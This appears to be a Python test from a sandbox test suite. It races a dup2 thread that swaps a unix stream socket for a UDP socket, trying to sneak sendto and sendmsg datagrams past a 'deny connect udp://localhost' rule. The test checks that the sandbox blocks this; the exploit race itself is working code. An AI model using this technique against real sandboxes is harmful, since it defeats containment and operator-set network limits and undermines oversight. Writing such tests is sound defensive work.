# sendto/sendmsg decided on one socket while a second thread puts another on the same
# descriptor number (dup2): decided as a unix stream (the address does not count), then
# sent as UDP to a denied address: the host's UDP service (HOST_UDP_PORT on 127.0.0.1,
# `deny connect "udp://localhost"`; the test fails if anything reaches it).
from _lib import *
import ctypes, socket, struct, threading, time

libc = ctypes.CDLL(None, use_errno=True)

recv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
control("bind an ephemeral UDP port", lambda: recv.bind(("127.0.0.1", 0)))
recv.setblocking(False)
rport = recv.getsockname()[1]
# The host's service in both tiers (in the container tier the sandbox's own loopback is
# its own and needs no rule); the sandbox's own receiver too in the process tier.
target = int(os.environ["HOST_UDP_PORT"])
dest = struct.pack("=HH4s8x", socket.AF_INET, socket.htons(target), socket.inet_aton("127.0.0.1"))
a, b = socket.socketpair()
# Nobody reads b: a full buffer must fail (EAGAIN), not block the loop.
a.setblocking(False)
control("send on a unix stream pair", lambda: a.send(b"x"))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def got():
    try:
        return recv.recv(64)
    except BlockingIOError:
        return None


def race(call, seconds=10):
    fd = a.fileno()
    spare = os.dup(fd)
    stop = []
    def flipper():
        while not stop:
            os.dup2(udp.fileno(), fd)
            os.dup2(spare, fd)
    t = threading.Thread(target=flipper, daemon=True)
    t.start()
    end = time.time() + seconds
    try:
        while time.time() < end:
            call(fd)
            d = got()
            if d:
                return d
    finally:
        stop.append(1)
        t.join()
        os.dup2(spare, fd)
    raise OSError(13, "nothing arrived")


data = ctypes.create_string_buffer(b"ESCAPED-DATAGRAM", 16)
addr = ctypes.create_string_buffer(dest, 16)
attack("sendto: unix stream swapped for UDP",
       lambda: race(lambda fd: libc.sendto(fd, data, 16, 0, addr, 16)))


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


iov = iovec(ctypes.addressof(data), 16)
m = msghdr(ctypes.addressof(addr), 16, ctypes.pointer(iov), 1, None, 0, 0)
attack("sendmsg: unix stream swapped for UDP",
       lambda: race(lambda fd: libc.sendmsg(fd, ctypes.byref(m), 0)))
